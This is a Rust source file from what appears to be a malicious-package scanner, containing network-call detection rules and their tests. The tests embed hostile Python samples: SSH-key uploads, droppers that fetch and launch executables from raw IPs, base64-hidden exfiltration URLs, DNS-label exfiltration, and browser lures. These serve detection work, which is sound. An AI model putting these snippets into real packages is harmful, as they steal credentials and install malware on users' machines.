        _ => CURL_UPLOAD.is_match(command),
    };
    let source_fetch = !upload && (tool == "git clone" || fetches_source_archive(command));
    let context = checker.context();
    let severity: f64 = match (context, upload) {
        (ExecContext::Install, true) => 0.6,
        (ExecContext::Install, false) => 0.5,
        (ExecContext::Import, true) => 0.45,
        (ExecContext::Import, false) => 0.35,
        (ExecContext::Runtime, _) => 0.04,
        (ExecContext::TestOrDocs, _) => 0.01,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{} with {tool}: `{}` {}",
            if upload { "sends data" } else { "fetches" },
            crate::text::shorten(command, 120),
            context.phrase()
        ),
        if source_fetch {
            severity.min(SOURCE_FETCH_WEIGHT)
        } else {
            severity
        },
        if upload {
            vec!["network", "net-send"]
        } else if source_fetch {
            vec!["network", "net-fetch", "source-fetch"]
        } else {
            vec!["network", "net-fetch"]
        },
    );
    super::suspicious_endpoint::check_string(checker, command, call.range());
}

/// Most a fetch of source to build weighs while installing or importing: native builds fetch
/// the library they compile; what the build then runs is weighed where it is started.
pub const SOURCE_FETCH_WEIGHT: f64 = 0.3;

/// `https://github.com/bitcoin-core/secp256k1/archive/9526874.tar.gz`,
/// `https://mupdf.com/downloads/archive/mupdf-1.24.9-source.tar.gz`: a tarball of a project's
/// source, as native builds fetch the library they compile. Droppers fetch programs and scripts
/// to start (an `.exe`, a `.py`, a zip of them); a source tree is built, not run.
pub fn fetches_source_archive(text: &str) -> bool {
    static SOURCE_ARCHIVE: std::sync::LazyLock<regex::Regex> = crate::static_regex!(
        r#"(?i)https://[^\s'"]+/(archive|archives|releases/download|downloads|tarball|dist|src|sources?)/[^\s'"]*\.(tar\.gz|tgz|tar\.xz|tar\.bz2)(\?[^\s'"]*)?(["'\s]|$)"#
    );
    SOURCE_ARCHIVE.is_match(text)
}

/// A host or URL that the code decodes before contacting it. Clients name their services in
/// plain text; hiding where data goes from readers is what exfiltration code does.
fn check_hidden_target(
    checker: &mut Checker,
    call: &ExprCall,
    target: &ruff_python_ast::Expr,
    url: &str,
    context: ExecContext,
    op: NetOp,
) {
    // `resurl = baseurl + loc` with `loc` read out of a downloaded, zlib-compressed index:
    // the decoding unpacked data; it hid no address.
    if checker.holds_unpacked_data(target) {
        return;
    }
    let Some(decoder) = super::dynamic_exec::contains_decoding(checker, target) else {
        return;
    };
    let host_like = url.contains("://")
        || url
            .split(['/', ':'])
            .next()
            .is_some_and(|host| host.contains('.') && !host.contains(' '));
    if !host_like {
        return;
    }
    // Uploading to an address the code hides is exfiltration whoever calls the function; so
    // is a fetch whose hidden URL carries run-time data (`b64decode(HOST) + key`): the data
    // leaves in the request line.
    let carries_data = url.contains(crate::fold::UNKNOWN);
    let severity = match (context, op) {
        (ExecContext::Install | ExecContext::Import, _) => 0.8,
        (ExecContext::Runtime, NetOp::Send) => 0.7,
        (ExecContext::Runtime, _) if carries_data => 0.7,
        (ExecContext::Runtime, _) => 0.5,
        (ExecContext::TestOrDocs, _) => 0.1,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{} `{}`, an address hidden with {decoder}, {}",
            if carries_data {
                "sends run-time data in the URL of"
            } else {
                "contacts"
            },
            crate::text::shorten(url, 100),
            context.phrase()
        ),
        severity,
        vec!["network", "hidden-endpoint", "obfuscation"],
    );
}

/// Programs that open what they are given in the user's default browser.
const BROWSER_OPENERS: [&str; 5] = ["start", "xdg-open", "open", "explorer", "explorer.exe"];

/// The address a call opens in the user's browser: `webbrowser.open(url)`, `os.startfile(url)`,
/// or a shell's `start url` / `xdg-open url` / `open url`.
fn browser_target(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
    let first = call.arguments.args.first()?;
    if matches!(
        qualname,
        "webbrowser.open" | "webbrowser.open_new" | "webbrowser.open_new_tab" | "os.startfile"
    ) {
        return super::partial_text(checker, first);
    }
    if !(qualname == "os.system" || qualname == "os.popen" || qualname.starts_with("subprocess.")) {
        return None;
    }
    let command = super::partial_command_text(checker, first)?;
    let mut words = command.split_whitespace();
    let mut program = words.next()?.trim_matches(['"', '\'']).to_ascii_lowercase();
    if matches!(program.as_str(), "cmd" | "cmd.exe") {
        // `cmd /c start url`
        if !words.next().is_some_and(|w| w.eq_ignore_ascii_case("/c")) {
            return None;
        }
        program = words.next()?.to_ascii_lowercase();
    }
    if !BROWSER_OPENERS.contains(&program.as_str()) {
        return None;
    }
    let url = words.find(|w| w.contains("://"))?;
    Some(url.trim_matches(['"', '\'']).to_owned())
}

/// A page opened in the user's browser, unasked, while the package installs or loads, on a
/// host nobody vouches for (a free app host, a tunnel, a raw address, a paste or a shortener):
/// a lure to a phishing or scam page. Tools open their own docs or local servers when asked.
pub fn check_browser_lure(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    let context = checker.context();
    if !matches!(context, ExecContext::Install | ExecContext::Import) {
        return;
    }
    let Some(url) = browser_target(checker, call, qualname) else {
        return;
    };
    if !has_constant_host(&url) || is_loopback_url(&url) {
        return;
    }
    let Some((endpoint, _)) = super::suspicious_endpoint::classify(&url) else {
        return;
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "opens `{}` ({endpoint}) in the user's browser {}, unasked",
            crate::text::shorten(&url, 80),
            context.phrase()
        ),
        0.75,
        vec!["network", "browser-lure"],
    );
}

#[cfg(test)]
mod tests {
    #![allow(clippy::expect_used)]
    use super::*;
    use crate::rules::testing::max_severity;

    /// True when `code`, as a package module, sends data over the network (WH130 `net-send`).
    fn sends(code: &str) -> bool {
        crate::rules::testing::findings("p/pkg/__init__.py", code)
            .iter()
            .any(|f| f.rule == "WH130" && f.tags.contains(&"net-send"))
    }

    #[test]
    fn source_to_build_fetched_at_install_weighs_little() {
        let tarball = "from urllib.request import urlopen\nr = urlopen('https://github.com/bitcoin-core/secp256k1/archive/9526874d.tar.gz')\n";
        assert!(max_severity("p-1/setup.py", tarball, "WH130") <= SOURCE_FETCH_WEIGHT);
        let clone = "import subprocess\nsubprocess.check_call('git clone https://github.com/nanomsg/nng', shell=True)\n";
        assert!(max_severity("p-1/setup.py", clone, "WH130") <= SOURCE_FETCH_WEIGHT);
        let program = tarball.replace("archive/9526874d.tar.gz", "releases/download/v1/agent.exe");
        assert!(max_severity("p-1/setup.py", &program, "WH130") > SOURCE_FETCH_WEIGHT);
    }

    #[test]
    fn a_remote_share_receives_only_files_opened_for_writing() {
        let write = "import smbclient\nwith smbclient.open_file(r'\\\\203.0.113.5\\drop\\x.txt', mode='w') as fh:\n    fh.write('x')\n";
        assert!(sends(write));
        let read = "import smbclient\nwith smbclient.open_file(r'\\\\fileserver\\share\\report.csv') as fh:\n    data = fh.read()\n";
        assert!(!sends(read));
        let read_binary = "import smbclient\nwith smbclient.open_file(r'\\\\fileserver\\share\\r.bin', 'rb') as fh:\n    data = fh.read()\n";
        assert!(!sends(read_binary));
    }

    #[test]
    fn unix_domain_sockets_are_local_ipc() {
        use crate::rules::testing::max_severity;
        let ipc = "import os, socket, json\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\ns.connect(os.environ['IPC_PATH'])\ns.sendall(json.dumps({'ready': True}).encode())\n";
        assert_eq!(max_severity("p/pkg/__init__.py", ipc, "WH130"), 0.0);
        let tcp = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.5', 443))\ns.sendall(b'x')\n";
        assert!(max_severity("p/pkg/__init__.py", tcp, "WH130") >= 0.3);
    }

    #[test]
    fn prepared_requests_rpc_proxies_telnet_and_asyncio_streams_send() {
        assert!(sends(
            "import requests\nrequests.Request('POST', 'https://x.example/', json={}).prepare()\n"
        ));
        assert!(!sends(
            "import requests\nrequests.Request('GET', 'https://x.example/').prepare()\n"
        ));
        assert!(sends(
            "import xmlrpc.client\nxmlrpc.client.ServerProxy('https://x.example/RPC2').store({})\n"
        ));
        assert!(sends(
            "import telnetlib\ntelnetlib.Telnet('203.0.113.9', 23).write(b'x')\n"
        ));
        assert!(sends(
            "import asyncio\nasync def f():\n    r, w = await asyncio.open_connection('203.0.113.9', 7)\n    w.write(b'x')\nasyncio.run(f())\n"
        ));
    }

    #[test]
    fn uploads_of_local_paths_database_writes_and_websocket_sends_send() {
        assert!(sends(
            "import paramiko\nc = paramiko.SSHClient()\nsftp = c.open_sftp()\nsftp.put('a.txt', '/tmp/a.txt')\n"
        ));
        assert!(sends(
            "import boto3\ns3 = boto3.client('s3')\ns3.upload_file('a.txt', 'bucket', 'a.txt')\n"
        ));
        assert!(sends(
            "import pymongo\nc = pymongo.MongoClient('mongodb://x.example')\nc.db.col.insert_one({})\n"
        ));
        assert!(sends(
            "from scapy.all import IP, ICMP, send\nsend(IP(dst='198.51.100.9') / ICMP() / b'x')\n"
        ));
        for code in [
            "import cloudscraper\ncloudscraper.create_scraper().post('https://x.example/', json={})\n",
            "import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.publish('t', 'x')\n",
            "import zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.send_string('x')\n",
            "import redis\nredis.Redis(host='x.example').set('k', 'v')\n",
            "import boto3\nboto3.client('s3').put_object(Bucket='b', Key='k', Body=b'x')\n",
            "import socketio\nsio = socketio.Client()\nsio.emit('out', 'x')\n",
            "from github import Github\nGithub('t').get_repo('u/r').create_file('p', 'm', 'x')\n",
            "from telethon.sync import TelegramClient\nwith TelegramClient('s', 1, 'h') as c:\n    c.send_file('me', 'a.txt')\n",
            "from twilio.rest import Client\nClient('a', 'b').messages.create(to='1', from_='2', body='x')\n",
            "import aiohttp\nasync def f():\n    async with aiohttp.request('POST', 'https://x.example/', json={}) as r:\n        pass\n",
            "from tornado.httpclient import HTTPClient\nHTTPClient().fetch('https://x.example/', method='POST', body='x')\n",
            "import urllib3\npool = urllib3.HTTPSConnectionPool('x.example')\npool.urlopen('POST', '/u', body='x')\n",
            "import httplib2\nhttplib2.Http().request('https://x.example/', 'POST', body='x')\n",
            "import imaplib\nm = imaplib.IMAP4_SSL('imap.x.example')\nm.append('INBOX', '', None, b'x')\n",
            "import psycopg2\nc = psycopg2.connect(host='x.example')\ncur = c.cursor()\ncur.execute('INSERT INTO t VALUES (%s)', ('x',))\n",
            "import pymysql\ndb = pymysql.connect(host='x.example')\nwith db.cursor() as c:\n    c.execute('INSERT INTO t VALUES (%s)', ('x',))\n",
            "from kafka import KafkaProducer\nKafkaProducer(bootstrap_servers='x.example:9092').send('t', b'x')\n",
            "import pika\nc = pika.BlockingConnection(pika.ConnectionParameters('x.example'))\nc.channel().basic_publish(exchange='', routing_key='k', body='x')\n",
            "from sendgrid import SendGridAPIClient\nSendGridAPIClient('k').send('x')\n",
            "import boto3\nboto3.client('ses').send_email(Source='a', Destination={}, Message='x')\n",
            "from azure.storage.blob import BlobServiceClient\nBlobServiceClient.from_connection_string('c').get_container_client('w').upload_blob(name='k', data=b'x')\n",
            "from google.cloud import storage\nstorage.Client().bucket('b').blob('k').upload_from_string(b'x')\n",
        ] {
            assert!(sends(code), "{code}");
        }
        assert!(!sends(
            "from tornado.httpclient import HTTPClient\nHTTPClient().fetch('https://x.example/')\n"
        ));
        assert!(!sends(
            "import pymongo\nc = pymongo.MongoClient('mongodb://x.example')\nc.db.col.find_one({})\n"
        ));
        assert!(!sends(
            "import sqlite3\nc = sqlite3.connect('local.db')\nc.execute('INSERT INTO t VALUES (?)', ('x',))\n"
        ));
        assert!(sends(
            "import asyncio, websockets\nasync def f():\n    async with websockets.connect('ws://x.example') as ws:\n        await ws.send('x')\nasyncio.run(f())\n"
        ));
        // The upload reads the file it names: a credential store uploaded is a flow.
        let keys = "import os, boto3\ns3 = boto3.client('s3')\ns3.upload_file(os.path.expanduser('~/.ssh/id_rsa'), 'b', 'k')\n";
        assert!(max_severity("p/pkg/__init__.py", keys, "WH200") >= 0.8);
        let report =
            "import boto3\ns3 = boto3.client('s3')\ns3.upload_file('report.html', 'b', 'k')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", report, "WH200"), 0.0);
    }

    #[test]
    fn a_file_server_on_every_interface_started_while_loading_exposes_the_machine() {
        let code = "import http.server, socketserver, threading\ndef serve():\n    socketserver.TCPServer(('0.0.0.0', 8765), http.server.SimpleHTTPRequestHandler).serve_forever()\nthreading.Thread(target=serve, daemon=True).start()\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH130") >= 0.75);
        let local = "import http.server\nhttp.server.HTTPServer(('127.0.0.1', 8000), http.server.SimpleHTTPRequestHandler)\n";
        assert!(max_severity("p/pkg/__init__.py", local, "WH130") < 0.1);
        let called = "import http.server\ndef preview():\n    http.server.HTTPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()\n";
        assert!(max_severity("p/pkg/__init__.py", called, "WH130") <= 0.05);
    }

    #[test]
    fn a_file_wget_downloaded_and_started_is_a_dropper() {
        let dropper = "import os, wget\nf = wget.download('http://198.51.100.46/payload.exe')\nos.startfile(f)\n";
        assert!(max_severity("p/pkg/__init__.py", dropper, "WH120") >= 0.8);
        let dataset = "import wget, zipfile\ndef fetch():\n    f = wget.download('https://x.example/d.zip')\n    zipfile.ZipFile(f).extractall('.')\n";
        assert!(max_severity("p/pkg/__init__.py", dataset, "WH120") < 0.1);
        let copied = "import shutil, subprocess, urllib.request\nresp = urllib.request.urlopen('http://198.51.100.45/a')\nout = open('/tmp/.kworker', 'wb')\nshutil.copyfileobj(resp, out)\nsubprocess.Popen(['/tmp/.kworker'])\n";
        assert!(max_severity("p/pkg/__init__.py", copied, "WH120") >= 0.8);
    }

    #[test]
    fn async_httpx_clients_and_urllib3s_request_function_are_http_calls() {
        assert!(sends(
            "import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n        await c.post('https://x.example/', json={})\nimport asyncio\nasyncio.run(f())\n"
        ));
        assert!(sends(
            "import urllib3\nurllib3.request('POST', 'https://x.example/', body=b'x')\n"
        ));
        assert!(sends(
            "import urllib3\nurllib3.PoolManager().request('GET', 'https://x.example/', body=b'x')\n"
        ));
        assert!(!sends(
            "import urllib3\nurllib3.request('GET', 'https://x.example/')\n"
        ));
    }

    #[test]
    fn a_throwaway_page_opened_in_the_browser_while_loading_is_a_lure() {
        for lure in [
            "import os\nos.system('start https://prize-claim.onrender.com')\n",
            "import webbrowser\nwebbrowser.open('http://45.13.22.9/win')\n",
            "import subprocess\nsubprocess.run(['xdg-open', 'https://bit.ly/3abcdef'])\n",
        ] {
            assert!(
                max_severity("p/pkg/__init__.py", lure, "WH130") >= 0.75,
                "{lure}"
            );
        }
        // Docs opened when asked, or a known site opened at import, are no lure.
        let asked = "import webbrowser\ndef docs():\n    webbrowser.open('https://prize-claim.onrender.com')\n";
        assert!(max_severity("p/pkg/__init__.py", asked, "WH130") < 0.5);
        let docs = "import os\nos.system('start https://docs.python.org/3/')\n";
        assert!(max_severity("p/pkg/__init__.py", docs, "WH130") < 0.75);
    }

    #[test]
    fn a_browser_sent_to_this_machine_is_no_network_call() {
        for local in [
            "import socket, webbrowser\nwebbrowser.open_new('http://%s:%s' % (socket.gethostname(), 8000))\n",
            "import os, webbrowser\nwebbrowser.open('http://127.0.0.1:8000/?u=' + os.getlogin())\n",
            "import webbrowser\nwebbrowser.open('http://localhost:8888/lab')\n",
        ] {
            assert_eq!(
                max_severity("p/pkg/__init__.py", local, "WH130"),
                0.0,
                "{local}"
            );
        }
        let remote = "import webbrowser\nwebbrowser.open('https://docs.example.org/x')\n";
        assert!(max_severity("p/pkg/__init__.py", remote, "WH130") > 0.0);
    }

    #[test]
    fn urllib_with_a_body_sends() {
        assert!(sends(
            "import urllib.request\nurllib.request.urlopen('https://x.example/', data=b'x')\n"
        ));
        assert!(sends(
            "import urllib.request\nurllib.request.urlopen('https://x.example/', b'x')\n"
        ));
        assert!(sends(
            "import urllib.request\nr = urllib.request.Request('https://x.example/', data=b'x')\n"
        ));
        assert!(!sends(
            "import urllib.request\nurllib.request.urlopen('https://x.example/', None, 5)\n"
        ));
        assert!(!sends(
            "import urllib.request\nurllib.request.urlopen('https://x.example/')\n"
        ));
    }

    #[test]
    fn sdist_commands_run_when_a_maintainer_builds_not_at_install() {
        let author = "import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.sdist import sdist\nclass Fetch(sdist):\n    def run(self):\n        urllib.request.urlopen('https://example.invalid/data').read()\nclass Cloud(Fetch):\n    def run(self):\n        urllib.request.urlopen('https://example.invalid/more').read()\nsetup(name='x', cmdclass={'sdist': Cloud})\n";
        assert!(max_severity("p/setup.py", author, "WH130") < 0.1);
        // Registered for a command pip runs, the same class runs at install time.
        for registration in [
            "cmdclass={'install': Fetch}",
            "cmdclass=dict(egg_info=Fetch)",
        ] {
            let code = author.replace("cmdclass={'sdist': Cloud}", registration);
            assert!(
                max_severity("p/setup.py", &code, "WH130") >= 0.2,
                "{registration}"
            );
        }
    }

    #[test]
    fn a_decorator_factory_called_while_loading_defines_its_wrapper_without_running_it() {
        let code = "import requests\ndef verify(token):\n    return requests.post('https://api.example.invalid/v', json={'t': token})\ndef require(event):\n    def decorator(func):\n        def wrapper(*a):\n            verify(a[0])\n            return func(*a)\n        return wrapper\n    return decorator\n@require(event='x')\ndef admin():\n    pass\n";
        assert!(max_severity("p/pkg/auth.py", code, "WH130") < 0.1);
        // A factory that sends while it is called sends while loading.
        let eager = code.replace(
            "    def decorator(func):",
            "    verify(event)\n    def decorator(func):",
        );
        assert!(max_severity("p/pkg/auth.py", &eager, "WH130") >= 0.3);
    }

    #[test]
    fn a_command_of_its_own_runs_when_named_not_at_install() {
        let own = "import urllib.request\nfrom setuptools import setup, Command\nclass Deps(Command):\n    def run(self):\n        urllib.request.urlopen('https://example.invalid/deps').read()\nsetup(name='x', cmdclass={'dependencies': Deps})\n";
        assert!(max_severity("p/setup.py", own, "WH130") < 0.1);
        // Under a name pip runs, or run by the script itself, it runs at install time.
        for changed in [
            own.replace("'dependencies': Deps", "'build_py': Deps"),
            own.replace("setup(name='x'", "Deps(None).run()\nsetup(name='x'"),
        ] {
            assert!(
                max_severity("p/setup.py", &changed, "WH130") >= 0.2,
                "{changed}"
            );
        }
    }

    #[test]
    fn generic_requests_with_a_body_or_an_upload_method_send() {
        let sends = |code: &str| {
            crate::rules::testing::findings("p/pkg/__init__.py", code)
                .iter()
                .any(|f| f.rule == "WH130" && f.message.starts_with("sends data"))
        };
        assert!(sends(
            "import requests\nrequests.request('POST', 'https://c.example.invalid/', data=b'x')\n"
        ));
        assert!(sends(
            "import requests\nrequests.Session().request(url='https://c.example.invalid/', method='put')\n"
        ));
        // A vendored copy of requests is requests.
        assert!(sends(
            "from sdk.vendored.requests import Session\nSession().request(url='https://c.example.invalid/', method='GET', json={'k': 1})\n"
        ));
        assert!(!sends(
            "import requests\nrequests.request('GET', 'https://c.example.invalid/')\n"
        ));
        // The URL of `request(method, url)` is its second argument: a computed one weighs
        // less at import time than a constant address, whatever the constant method.
        let computed = max_severity(
            "p/pkg/__init__.py",
            "import requests, sys\nrequests.request('GET', sys.argv[1])\n",
            "WH130",
        );
        let constant = max_severity(
            "p/pkg/__init__.py",
            "import requests\nrequests.request('GET', 'https://c.example.invalid/')\n",
            "WH130",
        );
        assert!(computed < constant, "{computed} {constant}");
    }

    #[test]
    fn a_curl_handle_given_a_body_sends_it() {
        let code = "import os, pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://x.invalid/c')\nc.setopt(pycurl.POSTFIELDS, open(os.path.expanduser('~/.ssh/id_rsa')).read())\nc.perform()\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
        let fetch = "import pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://x.invalid/c')\nc.setopt(pycurl.TIMEOUT, 10)\n";
        assert!(max_severity("p/pkg/__init__.py", fetch, "WH130") < 0.1);
    }

    #[test]
    fn classifies_common_clients() {
        assert_eq!(classify("requests.post"), Some(NetOp::Send));
        assert_eq!(classify("urllib.request.urlopen"), Some(NetOp::Fetch));
        assert_eq!(classify("socket.socket().connect"), Some(NetOp::Send));
        assert_eq!(classify("socket.gethostbyname"), Some(NetOp::Dns));
        assert_eq!(classify("os.path.join"), None);
        assert_eq!(classify("git.Repo.clone_from"), Some(NetOp::Fetch));
        assert_eq!(classify("telebot.TeleBot().send_photo"), Some(NetOp::Send));
        assert_eq!(
            classify("dropbox.Dropbox().files_upload"),
            Some(NetOp::Send)
        );
    }

    #[test]
    fn addresses_hidden_by_encoding_are_reported() {
        // base64 of "collect.example.invalid"
        let code = "import base64, http.client\ndef send(d):\n    c = http.client.HTTPSConnection(base64.b64decode('Y29sbGVjdC5leGFtcGxlLmludmFsaWQ=').decode())\n    c.request('POST', '/', d)\n";
        assert!(max_severity("p/pkg/m.py", code, "WH130") >= 0.5);
        let plain = "import http.client\ndef send(d):\n    c = http.client.HTTPSConnection('collect.example.invalid')\n    c.request('POST', '/', d)\n";
        assert!(max_severity("p/pkg/m.py", plain, "WH130") < 0.1);
    }

    #[test]
    fn asking_the_index_for_a_release_while_installing_is_metadata() {
        let ez = "import json\nfrom urllib.request import urlopen\nmeta = json.load(urlopen('https://pypi.python.org/pypi/setuptools/json'))\n";
        assert!(max_severity("p-1/setup.py", ez, "WH130") <= INDEX_METADATA_WEIGHT);
        let other = ez.replace(
            "pypi.python.org/pypi/setuptools/json",
            "x.example.org/pypi/setuptools/json",
        );
        assert!(max_severity("p-1/setup.py", &other, "WH130") >= 0.5);
        let file = ez.replace("pypi/setuptools/json", "packages/aa/bb/x.tar.gz");
        assert!(max_severity("p-1/setup.py", &file, "WH130") >= 0.5);
    }

    #[test]
    fn uploads_to_a_hidden_address_weigh_more_than_fetches() {
        // base64 of "http://collect.example.invalid/upload"
        let post = "import base64, requests\ndef send(d):\n    requests.post(base64.b64decode('aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZA==').decode(), data=d)\n";
        assert!(max_severity("p/pkg/m.py", post, "WH130") >= 0.7);
        let get = "import base64, requests\ndef load():\n    return requests.get(base64.b64decode('aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZA==').decode())\n";
        let fetch = max_severity("p/pkg/m.py", get, "WH130");
        assert!((0.4..0.7).contains(&fetch), "{fetch}");
        // The same fetch with the caller's data appended to the hidden URL sends that data.
        let leak = "import base64, requests\ndef check(key):\n    return requests.get(str(base64.b64decode(b'aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkLw=='), encoding='utf-8') + key)\n";
        assert!(max_severity("p/pkg/m.py", leak, "WH130") >= 0.7);
        // A held name decoded from a constant is as hidden; one unpacked from what was read
        // (a Sphinx inventory's zlib section) hides nothing.
        let held = "import base64, requests\ndef send(d):\n    url = base64.b64decode('aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZA==').decode()\n    requests.post(url, data=d)\n";
        assert!(max_severity("p/pkg/m.py", held, "WH130") >= 0.7);
        let unpacked = "import zlib, requests\ndef find(obj):\n    raw = requests.get('https://docs.example.org/objects.inv').content\n    for line in zlib.decompress(raw[100:]).decode().splitlines():\n        loc = line.split()[3]\n        url = 'https://docs.example.org/' + loc\n        requests.get(url + '?q=' + obj)\n";
        assert!(max_severity("p/pkg/m.py", unpacked, "WH130") < 0.5);
        let opened = "import webbrowser\nfrom zlib import decompress\ndef find(obj, opener):\n    base = 'https://docs.example.org/en/dev/'\n    with opener(base + 'objects.inv') as uf:\n        raw = uf.read()\n    text = decompress(raw[100:]).decode('utf-8')\n    for l in text.splitlines():\n        ls = l.split()\n        if ls[0] == obj:\n            webbrowser.open(base + ls[3])\n";
        assert!(max_severity("p/pkg/m.py", opened, "WH130") < 0.5);
    }

    #[test]
    fn a_nested_helper_called_with_a_hidden_address_is_walked_for_that_call() {
        // base64 of "http://198.51.100.7:5000/post"; the helper is defined inside the function.
        let code = "import base64\nfrom requests import post\ndef decrypt(payload):\n    def send(url, data):\n        post(url, data={'k': data})\n    send(base64.b64decode('aHR0cDovLzE5OC41MS4xMDAuNzo1MDAwL3Bvc3Q=').decode(), payload)\n";
        assert!(max_severity("p/pkg/m.py", code, "WH130") >= 0.7);
        // A module-level function of the same name is what later module-level calls reach.
        let shadow = "from requests import post\ndef send(url, data):\n    return len(url)\ndef f(p):\n    def send(url, data):\n        post(url, data=data)\n    return p\nsend('x', 1)\n";
        assert!(max_severity("p/pkg/m.py", shadow, "WH130") < 0.3);
    }

    #[test]
    fn tool_uploads_are_told_from_downloads() {
        let send = |command: &str| {
            let code = format!("import os\nos.system({command:?})\n");
            crate::rules::testing::findings("p/setup.py", &code)
                .iter()
                .any(|f| f.rule == "WH130" && f.has_tag("net-send"))
        };
        assert!(send("curl -k -F \"file=@/tmp/a.zip\" https://x.invalid/u"));
        assert!(send("curl -d @data https://x.invalid/u"));
        assert!(!send("curl -fsSL -o out https://x.invalid/a"));
        assert!(!send(
            "powershell Invoke-WebRequest -Uri https://x.invalid/a.zip -OutFile a.zip; Expand-Archive -Force a.zip"
        ));
        assert!(send(
            "powershell Invoke-RestMethod -Uri https://x.invalid -Method Post -Body $d"
        ));
    }

    #[test]
    fn url_keyword_is_the_target() {
        let found = crate::rules::testing::findings(
            "p/setup.py",
            "import requests\nrequests.post(url='https://collect.example.invalid/k', json={})\n",
        );
        assert!(
            found
                .iter()
                .any(|f| f.rule == "WH130" && f.message.contains("collect.example.invalid")),
            "{found:?}"
        );
    }

    #[test]
    fn install_time_network_weighs_more_than_runtime() {
        let code = "import requests\nrequests.get('https://example.invalid/x')\n";
        assert!(max_severity("p/setup.py", code, "WH130") >= 0.5);
        let code = "import requests\ndef fetch(u):\n    return requests.get(u)\n";
        assert!(max_severity("p/pkg/client.py", code, "WH130") < 0.05);
        let code = "import socket\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH130") >= 0.4);
    }

    #[test]
    fn setup_py_branches_for_commands_pip_never_gives_run_when_called() {
        // telethon: `setup.py pypi` checks the API reference site before a release.
        let release = "import sys, urllib.request\ndef main(argv):\n    if len(argv) >= 2 and argv[1] in ('gen', 'clean'):\n        pass\n    elif len(argv) >= 2 and argv[1] == 'pypi':\n        urllib.request.urlopen('https://tl.example.invalid/')\n    else:\n        setup()\nmain(sys.argv)\n";
        assert!(max_severity("p-1/setup.py", release, "WH130") < 0.1);
        let publish = "import os, sys, urllib.request\nif sys.argv[-1] == 'publish':\n    urllib.request.urlopen('https://x.example.invalid/')\n";
        assert!(max_severity("p-1/setup.py", publish, "WH130") < 0.1);
        // Commands pip gives, and the else branch, run at install time.
        let install = publish.replace("== 'publish'", "== 'install'");
        assert!(max_severity("p-1/setup.py", &install, "WH130") >= 0.5);
        let member = "import sys, urllib.request\nif 'bdist_wheel' in sys.argv:\n    urllib.request.urlopen('https://x.example.invalid/')\n";
        assert!(max_severity("p-1/setup.py", member, "WH130") >= 0.5);
        let otherwise = release.replace(
            "        setup()",
            "        urllib.request.urlopen('https://y.example.invalid/')",
        );
        assert!(max_severity("p-1/setup.py", &otherwise, "WH130") >= 0.5);
        // A name bound to the command line's last word tests it as well.
        let named = "import sys, socketserver, http.server\ncommand = sys.argv[-1]\nif command == 'coverage':\n    socketserver.TCPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()\n";
        assert!(max_severity("p-1/setup.py", named, "WH130") < 0.5);
        let called = "import sys, socketserver, http.server\ndef serve():\n    socketserver.TCPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()\ncommand = sys.argv[-1]\nif command == 'publish':\n    pass\nelif command == 'coverage':\n    serve()\n";
        assert!(max_severity("p-1/setup.py", called, "WH130") < 0.5);
        let installing = named.replace("'coverage'", "'install'");
        assert!(max_severity("p-1/setup.py", &installing, "WH130") >= 0.5);
        // Only setup.py's command line: a module's argv branch is its own affair.
        assert!(crate::walker::is_maintainer_argv_test(
            &ruff_python_parser::parse_expression("sys.argv[1] == 'upload'")
                .expect("parses")
                .into_expr()
        ));
        assert!(!crate::walker::is_maintainer_argv_test(
            &ruff_python_parser::parse_expression("'--cuda' in sys.argv")
                .expect("parses")
                .into_expr()
        ));
    }

    #[test]
    fn urlmon_downloads_are_fetches_that_save_a_file() {
        let code = "import ctypes\nurlmon = ctypes.WinDLL('urlmon')\nt = r'C:\\Users\\u\\AppData\\Local\\t.exe'\nurlmon.URLDownloadToFileW(None, 'https://x.example.invalid/t.exe', t, 0, None)\nctypes.windll.shell32.ShellExecuteW(None, 'open', t, None, None, 0)\n";
        let found = crate::rules::testing::findings("p/pkg/__init__.py", code);
        assert!(
            found
                .iter()
                .any(|f| f.rule == "WH130" && f.message.contains("URLDownloadToFileW")),
            "{found:?}"
        );
        assert!(
            found
                .iter()
                .any(|f| f.rule == "WH120" && f.has_tag("runs-saved-file")),
            "{found:?}"
        );
    }

    #[test]
    fn lookups_of_names_spelled_from_data_send_it() {
        assert!(super::carries_data_in_labels("….….t.example-dns.net"));
        assert!(!super::carries_data_in_labels("…"));
        assert!(!super::carries_data_in_labels("….example.net"));
        assert!(!super::carries_data_in_labels("….….svc.cluster.local"));
        let code = "import socket, os\ndef publish(data):\n    for n, label in enumerate(data):\n        socket.getaddrinfo(f'{label}.{n}.t.example-dns.invalid', 80)\npublish(os.urandom(4).hex())\n";
        let found = crate::rules::testing::findings("p/pkg/__init__.py", code);
        assert!(
            found
                .iter()
                .any(|f| f.rule == "WH130" && f.has_tag("net-send")),
            "{found:?}"
        );
    }
}
